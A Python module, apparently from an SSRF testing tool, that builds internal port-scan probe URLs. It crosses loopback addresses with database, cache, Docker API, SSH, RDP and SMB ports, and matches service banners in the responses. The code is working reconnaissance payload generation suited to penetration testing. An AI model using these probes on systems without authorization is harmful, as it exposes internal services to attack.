"""
Internal port scan probes: every target address crossed with every port,
each sent as a plain ``http://`` URL so the vulnerable server connects to it.
"""
import ipaddress
from typing import List, Sequence

from ssrfprobe.payloads.base import Category, ProbeDescriptor

DEFAULT_ADDRESSES = ("127.0.0.1", "localhost", "0.0.0.0")

# databases, caches, container APIs and common web ports
DEFAULT_PORTS = (
    6379, 3306, 5432, 27017, 9200, 11211, 5984, 2375,
    8086, 9000, 5000, 8080, 8888, 80, 443, 22, 21, 3389, 445,
)

HTTP_BANNER = ("HTTP/", "Server:", "<html")
GENERIC_KEYWORDS = ("HTTP/", "Server:")

PORT_KEYWORDS = {
    6379: ("redis_version", "PONG", "role:master"),
    3306: ("mysql", "MariaDB", "Access denied"),
    5432: ("PostgreSQL", "FATAL"),
    27017: ("MongoDB", "unauthorized"),
    9200: ("cluster_name", "version", "tagline", "elasticsearch"),
    11211: ("STAT", "version"),
    2375: ("Containers", "Images"),
    80: HTTP_BANNER,
    443: HTTP_BANNER,
    8080: HTTP_BANNER,
    8888: HTTP_BANNER,
}


def keywords_for_port(port: int) -> tuple:
    return PORT_KEYWORDS.get(port, GENERIC_KEYWORDS)


def _host(address: str) -> str:
    try:
        if ipaddress.ip_address(address).version == 6:
            return f"[{address}]"
    except ValueError:
        pass
    return address


def get_port_scan_payloads(addresses: Sequence[str] = (), ports: Sequence[int] = ()) -> List[ProbeDescriptor]:
    addresses = addresses or DEFAULT_ADDRESSES
    ports = ports or DEFAULT_PORTS
    return [
        ProbeDescriptor.create(
            f"http://{_host(address)}:{port}",
            Category.PORT_SCAN,
            keywords_for_port(port),
        )
        for address in addresses
        for port in ports
    ]
